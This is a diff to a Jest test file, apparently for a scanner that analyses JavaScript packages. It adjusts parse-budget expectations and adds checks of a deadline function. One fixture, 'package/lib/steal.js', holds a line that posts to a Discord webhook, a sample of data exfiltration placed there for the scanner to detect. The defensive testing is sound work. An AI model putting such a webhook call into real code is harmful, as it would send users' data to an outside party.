@@ -1,3 +1,4 @@
+import { pastParseDeadline } from '../../../src/analysis/context.js';
 import { describe, expect, it } from '@jest/globals';
 import { AnalysisContext } from '../../../src/analysis/context.js';
 import { analyzeJavaScriptSource } from '../../../src/analysis/javascript/facts.js';
@@ -83,10 +84,15 @@ describe('javascript parse budget', () => {
       'package/lib/steal.js': "require('https').request('https://discord.com/api/webhooks/1/x');\n",
     });
     const facts = jsPackageFacts(ctx, 10 * 1024 * 1024, 0);
-    expect(facts.files.map((f) => f.path).sort()).toEqual([
-      'package/lib/steal.js',
-      'package/main.js',
-    ]);
-    expect(facts.textOnly).toEqual(['package/vendor/a.js']);
+    // with no time at all, only the entry point (which runs on load) is parsed
+    expect(facts.files.map((f) => f.path)).toEqual(['package/main.js']);
+    expect(facts.textOnly.sort()).toEqual(['package/lib/steal.js', 'package/vendor/a.js']);
+  });
+
+  it('gives files with indicators half as long again as the rest', () => {
+    expect(pastParseDeadline(0, 1e9, 100)).toBe(false);
+    expect(pastParseDeadline(2, 120, 100)).toBe(true);
+    expect(pastParseDeadline(1, 120, 100)).toBe(false);
+    expect(pastParseDeadline(1, 160, 100)).toBe(true);
   });
 });
